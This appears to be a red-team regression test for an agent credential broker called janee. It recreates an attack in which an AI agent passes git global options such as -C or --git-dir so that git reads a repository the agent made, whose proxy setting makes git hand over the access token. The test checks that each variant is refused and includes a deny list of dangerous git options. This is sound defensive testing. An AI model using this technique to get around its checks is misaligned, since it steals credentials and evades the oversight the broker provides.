/**
 * Red team (exec + gitCredential): git's global options choose another repository,
 * and with it another config. janee checks the config of the repository in `cwd`
 * (repoConfigRisk) before git runs with the token, but `git -C DIR`, `--git-dir`,
 * `--work-tree` and `--bare` make git read a repository janee never looked at, and
 * `-c`/`--config-env` add config of the agent's own. A repository the agent made
 * anywhere (here: outside every allowed cwd) sets `http.<url>.proxy` to a proxy of
 * its own, which answers 401: git then hands the proxy the token.
 *
 * The BUILT `janee serve` over stdio (official SDK client), real git against a real
 * `git http-backend` that demands the token, a loopback "proxy" that records what
 * it is sent. Before the fix the proxy received `Authorization: Basic
 * x-access-token:<token>` for `-C` and `--git-dir` (an `allow: ["**"]` with the
 * deny list docs/exec.md suggests).
 */
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs/promises';
import * as http from 'node:http';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cleanupTempHomes, initHome, runJanee, scratchDir, type JaneeEnv } from '../helpers/cli.js';
import { appendCommands, startGitServer, type GitServer } from '../helpers/exec.js';
import { closeAllServes, findForms, secretForms, startServe, textOf, type ServeSession } from '../helpers/mcp.js';

const GIT_TOKEN = 'sk_test_git_global_opts_5d2e8a61c0f4b97';
let env: JaneeEnv;
let gitSrv: GitServer;
let proxy: http.Server;
const seen: (string | undefined)[] = [];
let work: string;
let evil: string;
let s: ServeSession;

const g = (cwd: string, ...args: string[]): string => {
  const r = spawnSync('git', args, { cwd, encoding: 'utf8', env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', HOME: cwd } });
  if (r.status !== 0) throw new Error(`git ${args.join(' ')}: ${r.stderr}`);
  return r.stdout.trim();
};

beforeAll(async () => {
  env = await initHome();
  const dir = scratchDir(env);
  const root = path.join(dir, 'git');
  await fs.mkdir(root);
  g(root, 'init', '-q', '--bare', 'repo.git');
  work = path.join(dir, 'src', 'work');
  await fs.mkdir(work, { recursive: true });
  g(work, 'init', '-q');
  g(work, '-c', 'user.name=t', '-c', 'user.email=t@e', 'commit', '-q', '--allow-empty', '-m', 'first');
  g(work, 'push', '-q', path.join(root, 'repo.git'), 'HEAD:refs/heads/main');
  gitSrv = await startGitServer(root, GIT_TOKEN);

  proxy = http.createServer((req, res) => {
    seen.push(req.headers.authorization ?? req.headers['proxy-authorization']);
    res.writeHead(req.headers.authorization ? 403 : 401, { 'www-authenticate': 'Basic realm="x"' }).end();
  });
  await new Promise<void>((r) => proxy.listen(0, '127.0.0.1', () => r()));
  const proxyUrl = `http://127.0.0.1:${(proxy.address() as { port: number }).port}`;
  // The agent's repository, outside the allowed cwd, whose config sends git through its proxy.
  evil = path.join(dir, 'evil');
  await fs.mkdir(evil);
  g(evil, 'init', '-q');
  g(evil, 'config', `http.${gitSrv.url}/repo.git.proxy`, proxyUrl);

  const r = await runJanee(['add', 'gh', '--base-url', gitSrv.url, '--auth', 'bearer', '--key-stdin'], { env, input: `${GIT_TOKEN}\n` });
  expect(r.code, r.stderr).toBe(0);
  await appendCommands(env.JANEE_HOME, [
    '  git:',
    '    program: git',
    '    gitCredential: gh',
    '    allow: ["**"]',
    '    deny: ["** --receive-pack **", "** --upload-pack **", "** --exec **", "** -c **", "** --config-env **"]',
    `    cwd: [${path.join(dir, 'src')}]`,
  ]);
  const b = await runJanee(['bind', 'gh', 'exec:git'], { env });
  expect(b.code, b.stderr).toBe(0);
  s = await startServe({ env, args: ['--agent', 'rt5a'] });
}, 60_000);

afterAll(async () => {
  await closeAllServes();
  await gitSrv?.close();
  proxy?.close();
  await cleanupTempHomes();
});

describe('git global options cannot point a credentialed run at a repository janee did not check', { timeout: 60_000 }, () => {
  const repo = (): string => `${gitSrv.url}/repo.git`;
  it.each([
    ['-C DIR', () => ['-C', evil, 'ls-remote', repo()]],
    ['--git-dir=DIR', () => [`--git-dir=${evil}/.git`, 'ls-remote', repo()]],
    ['--git-dir DIR', () => ['--git-dir', `${evil}/.git`, 'ls-remote', repo()]],
    ['--work-tree and --git-dir', () => [`--work-tree=${evil}`, `--git-dir=${evil}/.git`, 'ls-remote', repo()]],
    ['--bare (the cwd as a git directory)', () => ['--bare', 'ls-remote', repo()]],
    ['--exec-path=DIR', () => [`--exec-path=${evil}`, 'ls-remote', repo()]],
  ])('%s is refused before git runs; the proxy sees nothing', async (_what, args) => {
    const r = await s.call('exec', { command: 'git', args: args(), cwd: work });
    expect(r.isError, textOf(r)).toBe(true);
    expect(textOf(r)).toMatch(/git option|repository/);
    expect(seen).toEqual([]);
    expect(findForms(textOf(r), secretForms(GIT_TOKEN))).toEqual([]);
  });

  it('the checked repository in cwd still works, with harmless global options too', async () => {
    for (const args of [
      ['ls-remote', repo()],
      ['--no-pager', 'ls-remote', repo()],
    ]) {
      const r = await s.call('exec', { command: 'git', args, cwd: work });
      expect(r.isError, textOf(r)).toBeFalsy();
      expect((r.structuredContent as { exitCode: number; stderr: string }).exitCode, textOf(r)).toBe(0);
      expect((r.structuredContent as { stdout: string }).stdout).toMatch(/refs\/heads\/main/);
    }
    expect(seen).toEqual([]);
  });
});
